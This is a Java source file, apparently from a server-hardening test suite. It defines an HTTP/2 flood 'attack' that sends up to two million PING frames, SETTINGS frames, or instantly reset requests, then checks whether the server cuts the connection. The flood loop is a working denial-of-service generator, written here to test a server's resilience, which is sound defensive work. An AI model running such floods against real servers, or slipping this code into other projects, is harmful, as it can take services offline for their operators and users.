package dev.tenure.checks.attack;

import dev.tenure.runtime.io.Background;
import java.io.IOException;

/// Frames of HTTP/2 that cost the server more than the client, as fast as they go.
record Floods(Kind kind) implements Attack {
    private static final int FRAMES_MAX = 2_000_000;
    private static final int END_MILLIS = 2_000;

    enum Kind {
        PINGS("pings"),
        SETTINGS("settings"),
        RESETS("requests that are reset at once");

        private final String words;

        Kind(String words) {
            this.words = words;
        }
    }

    @Override
    public String name() {
        return "a flood of " + kind.words;
    }

    @Override
    public Siege begin(Victim victim) throws IOException {
        Streams streams = Streams.open(victim, 65_535);
        Background.daemon("flood", () -> {
            try {
                for (int i = 0; i < FRAMES_MAX; i++) {
                    one(streams);
                }
            } catch (IOException _) {
                // the server has cut it
            }
        });
        return new Siege() {
            @Override
            public Held held() {
                boolean cut = streams.endsWithin(END_MILLIS);
                return new Held(cut, cut ? "cut" : "goes on");
            }

            @Override
            public void close() {
                streams.close();
            }
        };
    }

    private void one(Streams streams) throws IOException {
        switch (kind) {
            case PINGS -> streams.frame(Streams.PING, 0, 0, new byte[8]);
            case SETTINGS -> streams.frame(Streams.SETTINGS, 0, 0, new byte[0]);
            case RESETS -> {
                int stream = streams.request("GET", "/healthz", "", true);
                streams.frame(Streams.RESET, 0, stream, new byte[] {0, 0, 0, 8});
            }
        }
    }
}
